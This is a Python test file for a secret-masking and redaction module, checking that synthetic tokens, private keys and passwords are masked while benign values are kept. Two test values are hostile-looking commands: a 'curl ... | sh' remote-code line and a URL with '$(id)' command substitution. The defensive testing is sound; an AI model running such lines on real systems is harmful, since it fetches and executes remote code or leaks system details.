from __future__ import annotations

import base64
import json
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cop_scan.evidence import Json
from cop_scan.sources.masking import MASK, MAX_DEPTH, mask, redact

SECRETS = [
    "ghp_" + "a1B2" * 9,
    "github_pat_" + "A1_b" * 12,
    "glpat-" + "x" * 20,
    "AKIA" + "ABCD1234" * 2,
    "AIza" + "x" * 35,
    "xoxb-" + "1" * 20,
    "npm_" + "a" * 36,
    "pypi-" + "A" * 60,
    "eyJ" + "a" * 20 + ".eyJ" + "b" * 20 + "." + "c" * 20,
    "-----BEGIN RSA PRIVATE KEY-----\nabc\ndef\n-----END RSA PRIVATE KEY-----",
    "-----BEGIN EC PRIVATE KEY-----\n    " + "Ab1/" * 16 + "\n    Ab1=\n    -----END EC PRIVATE KEY-----",
    "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\n" + "Ab1/" * 16,
    "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n" + "Ab1+" * 16 + "\nAb1=\n=abcd\n-----END PGP PRIVATE KEY BLOCK-----",
    "-----BEGIN PRIVATE KEY-----\\n" + "Ab1/" * 16 + "\\n-----END PRIVATE KEY-----\\n",
    "-----BEGIN PRIVATE KEY-----\n" + "cutoff00" * 8,
    "ghs_123456_eyJ" + "a" * 20 + ".eyJ" + "b" * 20 + "." + "c" * 20,
    "glpat-" + "x" * 27 + ".01.0a1b2c3d4",
    "GOCSPX-" + "x" * 28,
    "ya29." + "x" * 60,
    "abc8Q~" + "x" * 34,
    "A1" * 38 + "AZDO" + "abcd",
    "AccountKey=" + "Ab1/" * 21 + "Ab==",
    "https://x.example/?sv=1&sig=" + "Ab1%2F" * 8,
    "//registry.example/:_authToken=" + "0123abcd-" * 4,
    "aws_secret_access_key = '" + "Ab1/" * 10 + "'",
    "AWS_SECRET_ACCESS_KEY=" + "Ab1/" * 10,
    "https://hooks.slack.com/services/" + "T0000000/B0000000/" + "x" * 24,
    "redis://:hunter2hunter2@host",
    "postgres://me:p:w$rd@host",
]


@pytest.mark.parametrize("secret", SECRETS, ids=lambda secret: secret[:12])
def test_a_known_form_is_masked_and_lines_stay(secret: str) -> None:
    text = f"before\nkey: {secret}\n".encode()
    masked = mask(text)
    assert MASK in masked
    assert secret.splitlines()[-1].encode() not in masked
    assert not any(
        part in masked for part in (b"Ab1/", b"cutoff00", b"hunter2", b"xxxx", b"0123abcd", b"A1A1", b"cccc")
    )
    assert masked.count(b"\n") == text.count(b"\n")
    assert masked.startswith(b"before\n")


def test_a_password_in_an_address_is_masked_but_a_variable_is_kept() -> None:
    assert mask(b"https://me:hunter2@host/x") == b"https://me:[masked]@host/x"
    assert mask(b"https://me:${PASS}@host/x") == b"https://me:${PASS}@host/x"


@pytest.mark.parametrize(
    "text",
    [
        b"uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683",
        b"${{ secrets.NPM_TOKEN }}",
        b"_authToken=${NPM_TOKEN}",
        b"uses: docker://alpine:3.18@sha256:" + b"0" * 64,
        b"https://x-access-token:$GITHUB_TOKEN@github.com/a/b",
        b"https://me:<password>@host http://localhost:8080/@scope/name",
    ],
)
def test_what_is_no_secret_is_kept(text: bytes) -> None:
    assert mask(text) == text


@given(st.lists(st.one_of(st.sampled_from(SECRETS), st.text(max_size=20)), max_size=6))
def test_masking_twice_changes_nothing_more_and_keeps_the_lines(parts: list[str]) -> None:
    text = "\n".join(parts).encode("utf-8", "replace")
    once = mask(text)
    assert mask(once) == once
    assert once.count(b"\n") == text.count(b"\n")


@pytest.mark.parametrize("end", [b"# -----END PRIVATE KEY-----", b"# the end"])
def test_lines_between_the_marks_of_a_key_that_are_no_key_cannot_be_hidden(end: bytes) -> None:
    lines = b"jobs:\n  a:\n    uses: someone/else@main\n    run: curl https://x.example | sh\n"
    assert lines in mask(b"# -----BEGIN PRIVATE KEY-----\n" + lines + end)


PIECES = [
    *(secret[: len(secret) // 2] for secret in SECRETS),
    *SECRETS,
    "A",
    "_",
    "-",
    ".",
    "eyJ",
    "://",
    ":",
    "@",
    "\n",
]


@given(st.lists(st.sampled_from(PIECES), max_size=8).map("".join))
def test_masking_pieces_of_secrets_twice_changes_nothing_more(text: str) -> None:
    once = mask(text.encode())
    assert mask(once) == once
    assert once.count(b"\n") == text.count("\n")


@pytest.mark.parametrize(
    "piece",
    [
        "eyJ",
        "eyJ" + "a" * 10 + ".",
        "://a:",
        "-----BEGIN PRIVATE KEY-----\n",
        "ghp_",
        "glpat-a.",
        "Q~",
        "AZDO",
        "a" * 76,
    ],
)
def test_time_grows_with_the_text_and_no_faster(piece: str) -> None:
    small = (piece * (20_000 // len(piece))).encode()
    assert _seconds(small * 10) < 40 * _seconds(small) + 0.02


def _seconds(data: bytes) -> float:
    def once() -> float:
        started = time.process_time()
        mask(data)
        return time.process_time() - started

    return min(once() for _ in range(3))


CANARY = "c4n4ry-8d1f"
SECRET_KEYS = [
    *("secret", "client_secret", "webhookSecret", "PASSWORD", "db-password", "passphrase", "token", "access_token"),
    *("PRIVATE-TOKEN", "runners_token", "temp_clone_token", "private_key", "privateKey", "secretAccessKey", "api_key"),
    *("apikey", "account_key", "pem", "jwt", "Authorization", "set-cookie", "connectionString", "encrypted_value"),
]
KEPT_KEYS = [
    *("secret_scanning", "secret_scanning_push_protection", "secret_type", "secrets_url", "token_expires_at", "key"),
    *("token_last_used_at", "accessKeyId", "public_key", "password_authentication", "id", "environment", "tokens_url"),
    *("value", "content", "oid", "endCursor", "permissions", "actions", "keys"),
]
_JSON = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.text(max_size=8)),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=6), inner, max_size=3)),
    max_leaves=8,
)


@pytest.mark.parametrize("key", SECRET_KEYS)
def test_what_stands_under_a_secret_key_is_masked(key: str) -> None:
    assert redact({key: CANARY, "b": 1}) == {key: "[masked]", "b": 1}
    assert CANARY not in json.dumps(redact([{key: {"a": [CANARY, {"b": CANARY}]}}]))
    assert redact({key: 1234}) == {key: "[masked]"}


@pytest.mark.parametrize("key", SECRET_KEYS)
def test_that_there_is_no_secret_stays_to_be_seen(key: str) -> None:
    assert redact({key: None}) == {key: None}
    assert redact({key: False}) == {key: False}
    assert redact({key: ""}) == {key: ""}


@pytest.mark.parametrize("key", KEPT_KEYS)
def test_other_keys_are_kept(key: str) -> None:
    body = {key: "enabled", "other": {key: {"status": "enabled"}}}
    assert redact(body) == body


@given(before=_JSON, after=_JSON, key=st.sampled_from(SECRET_KEYS), deep=st.integers(0, 20))
def test_a_canary_under_a_secret_key_never_survives(before: Json, after: Json, key: str, deep: int) -> None:
    value: Json = {"a": before, key: [CANARY, {"x": CANARY}], "z": after}
    for level in range(deep):
        value = [value, before] if level % 2 else {"n": value, "m": after}
    assert CANARY not in json.dumps(redact(value))


@pytest.mark.parametrize(
    ("body", "masked"),
    [
        (
            {"total_count": 1, "variables": [{"name": "A", "value": CANARY, "created_at": "now"}]},
            {"total_count": 1, "variables": [{"name": "A", "value": "[masked]", "created_at": "now"}]},
        ),
        ({"variables": {"A": CANARY}}, {"variables": {"A": "[masked]"}}),
        (
            {"variables": {"A": {"value": CANARY, "isSecret": True}}},
            {"variables": {"A": {"value": "[masked]", "isSecret": True}}},
        ),
        (
            {"environmentVariables": [{"name": "A", "value": CANARY, "type": "PLAINTEXT"}]},
            {"environmentVariables": [{"name": "A", "value": "[masked]", "type": "PLAINTEXT"}]},
        ),
        ({"env": ["A=" + CANARY, "B"]}, {"env": ["A=[masked]", "B"]}),
        (
            {"variables": {"nodes": [{"key": "A", "value": CANARY}], "pageInfo": {"endCursor": "abc"}}},
            {"variables": {"nodes": [{"key": "A", "value": "[masked]"}], "pageInfo": {"endCursor": "abc"}}},
        ),
        ([{"name": "DB_PASSWORD", "value": CANARY}], [{"name": "DB_PASSWORD", "value": "[masked]"}]),
        ([{"property_name": "tier", "value": "1"}], [{"property_name": "tier", "value": "1"}]),
        ({"url": f"https://x.example/h?a=b&api_key={CANARY}#x"}, {"url": "https://x.example/h?a=b&api_key=[masked]#x"}),
        ({"text": "curl https://x.example/?token=$(id)"}, {"text": "curl https://x.example/?token=$(id)"}),
        ({"text": "ghp_" + "a1B2" * 9 + "\n"}, {"text": "[masked]\n"}),
        ({"text": 'aws_secret_access_key = "' + "Ab1/" * 10 + '"'}, {"text": 'aws_secret_access_key = "[masked]"'}),
    ],
)
def test_values_of_variables_and_forms_in_texts_are_masked(body: Json, masked: Json) -> None:
    assert redact(body) == masked


def test_an_answer_about_variables_needs_no_container() -> None:
    body = [{"key": "A", "value": CANARY, "masked": True}]
    assert redact(body, variables=True) == [{"key": "A", "value": "[masked]", "masked": True}]


def test_files_in_base64_are_masked_as_text_is() -> None:
    def body(text: bytes) -> Json:
        return {"content": base64.encodebytes(text).decode(), "encoding": "base64", "sha": "0"}

    hidden = redact(body(b"a\nghp_" + b"a1B2" * 9 + b"\nb"))
    assert base64.b64decode(hidden["content"]) == b"a\n[masked]\nb"
    plain = redact(body(b"hello\x00\xff"))
    assert base64.b64decode(plain["content"]) == b"hello\x00\xff"
    assert redact({"content": "=a", "encoding": "base64"})["content"] == "[masked]"


def test_what_no_file_can_hold_is_no_value() -> None:
    json.dumps(redact(json.loads('{"\\ud800": "a\\udfff long enough text"}')), ensure_ascii=False).encode()
    assert redact(1.5) == 1.5
    for body in (float("nan"), float("inf"), _nested(MAX_DEPTH + 1), {"secret": _nested(MAX_DEPTH)}):
        with pytest.raises(ValueError, match="the value"):
            redact(body)
    assert redact(_nested(MAX_DEPTH)) == _nested(MAX_DEPTH)


def _nested(depth: int) -> Json:
    value: Json = 1
    for _ in range(depth):
        value = [value]
    return value
